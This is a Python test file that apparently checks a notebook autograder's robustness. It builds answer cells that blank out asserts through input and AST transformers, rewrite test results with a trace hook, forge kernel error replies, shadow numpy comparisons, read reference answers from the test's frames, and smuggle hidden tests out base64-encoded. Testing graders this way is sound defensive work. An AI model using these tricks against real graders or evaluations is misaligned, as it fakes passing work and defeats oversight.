"""Attacks on the autograder, written as a determined student would, put into the answer cells.

Each one targets a way an in-kernel grader can be fooled: transformers that rewrite the test cells,
a trace hook that rewrites what the tests compare, forged reply and error messages, names that
shadow what the tests use, an exception with no text, answers read from the test's own frames, and
hidden tests read from the kernel and smuggled out (base64) through the outputs. None does the work,
so each must earn exactly what the blank release earns.
"""

import base64
import copy
import re

import nbformat
import nbtools

# Rewrites every later cell, forges replies, shadows names. Installed once, from any answer cell.
HOOKS = """
import ast, sys
if not globals().get("_hooks_installed"):
    _hooks_installed = True
    _shell = get_ipython()

    def _blank_tests(lines):  # input transformer: a cell with a check becomes `pass`
        text = "".join(lines)
        return ["pass\\n"] if ("assert" in text or "test_failure" in text) else lines

    _shell.input_transformers_post.append(_blank_tests)

    class _NoChecks(ast.NodeTransformer):  # AST transformer: asserts and raises vanish
        def visit_Assert(self, node):
            return ast.Pass()

        def visit_Raise(self, node):
            return ast.Pass()

    _shell.ast_transformers.append(_NoChecks())

    def _tracer(frame, event, arg):  # trace hook: a failing hidden test looks like a pass
        if "hidden_test_failure" in frame.f_globals:
            frame.f_globals["hidden_test_failure"] = None
        return _tracer

    sys.settrace(_tracer)

    _session = _shell.kernel.session  # forged messages: errors never reach the grader
    _send = _session.send

    def _forged_send(stream, msg_or_type, content=None, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
        if kind == "error":
            return None
        if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
            content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                       "user_expressions": {}, "payload": []}
        return _send(stream, msg_or_type, content, *args, **kwargs)

    _session.send = _forged_send

    import numpy  # shadowed checks: whatever a test compares, compares equal
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
    numpy.allclose = numpy.array_equal = lambda *a, **k: True
"""

# Every function the assignment asks for: read the reference from the test's frames, or fail quietly.
FORGER = """
import sys


class _Quiet(Exception):  # an exception whose text is empty
    def __str__(self):
        return ""


class _Anything:  # equal to everything, any attribute, any call
    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


def _forger(*args, **kwargs):
    frame = sys._getframe(1)  # the reference the test just computed, from the caller's frame
    while frame is not None:
        for name in ("expected", "reference", "keras_step", "keras_states", "want", "counts"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    if args and args[0] == "raise":
        raise _Quiet()
    return _Anything()


for _name in {names!r}:
    globals()[_name] = _forger
"""

# Looks for the hidden tests wherever a kernel could see them and prints them base64-encoded.
LEAK = """
import base64, gc, sys
_marker, _found = "BEGIN " + "HIDDEN", []
_texts = [str(t) for t in globals().get("In", [])] + [str(t) for t in globals().get("_ih", [])]
for _frame in sys._current_frames().values():
    while _frame is not None:
        _texts += [str(v) for v in _frame.f_locals.values() if isinstance(v, str)]
        _frame = _frame.f_back
for _obj in gc.get_objects():
    if type(_obj).__name__ == "function":
        _texts += [c for c in _obj.__code__.co_consts if isinstance(c, str)]
_found = [t for t in _texts if t is not _marker and (_marker in t or "_hidden" + "_checks" in t)]
print("LEAK-COUNT", len(_found))
for _text in _found[:20]:
    print("LEAK:" + base64.b64encode(_text.encode()).decode())
"""

LEAK_TOKEN = re.compile(r"LEAK:([A-Za-z0-9+/=]+)")


def solution_names(release) -> list[str]:
    """The functions the assignment asks for (``def`` lines of its answer cells)."""
    names = []
    for cell in release.cells:
        if cell.cell_type == "code" and nbtools.nbgrader_meta(cell).get("solution"):
            names += re.findall(r"^def (\w+)\(", cell.source, flags=re.M)
    return names


def attack_notebook(release, *, hooks=True, forger=True, leak=True):
    """The blank release with the attacks in its answer cells and a leak cell at the end."""
    notebook = copy.deepcopy(release)
    code = (HOOKS if hooks else "") + (FORGER.format(names=solution_names(release)) if forger else "")
    for cell in notebook.cells:
        if cell.cell_type == "code" and nbtools.nbgrader_meta(cell).get("solution"):
            cell.source = code or "pass"
    if leak:
        notebook.cells.append(nbformat.v4.new_code_cell(LEAK))
    return notebook


def leaked_text(text: str) -> str:
    """What the leak cell smuggled out, decoded."""
    return "\n".join(base64.b64decode(token).decode(errors="replace") for token in LEAK_TOKEN.findall(text))
